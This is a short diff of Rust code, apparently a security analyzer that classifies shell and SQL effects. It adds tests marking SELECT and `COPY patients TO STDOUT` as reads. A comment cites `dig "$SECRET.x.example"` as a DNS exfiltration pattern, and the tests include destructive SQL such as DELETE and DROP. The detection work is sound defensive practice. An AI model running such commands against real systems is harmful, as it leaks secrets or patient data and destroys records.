@@ -293,7 +293,8 @@ impl Analyzer {
                 } else if word.dynamic && e.send {
                     // `dig "$SECRET.x.example"`: the name is only known at run time, and
                     // it is what leaves.
-                    let mut net = Effect::new(Kind::Net, Target::Unknown(word.text.clone()), via.clone());
+                    let mut net =
+                        Effect::new(Kind::Net, Target::Unknown(word.text.clone()), via.clone());
                     net.send = true;
                     self.push_effect(index, net);
                 }
@@ -1177,7 +1178,12 @@ mod tests {
         assert_eq!(classify_sql("DELETE\n FROM users"), [SqlKind::Delete]);
         assert_eq!(classify_sql("UPDATE users SET role = 1"), [SqlKind::Update]);
         assert_eq!(classify_sql("db.users.deleteMany({})"), [SqlKind::Delete]);
-        assert!(classify_sql("SELECT * FROM users WHERE go_live_at < now()").is_empty());
+        // A query reads data out and destroys nothing.
+        assert_eq!(
+            classify_sql("SELECT * FROM users WHERE go_live_at < now()"),
+            [SqlKind::Read]
+        );
+        assert_eq!(classify_sql("COPY patients TO STDOUT"), [SqlKind::Read]);
         assert!(classify_sql("select 'drop table' as x -- drop table y").contains(&SqlKind::Drop));
     }
 
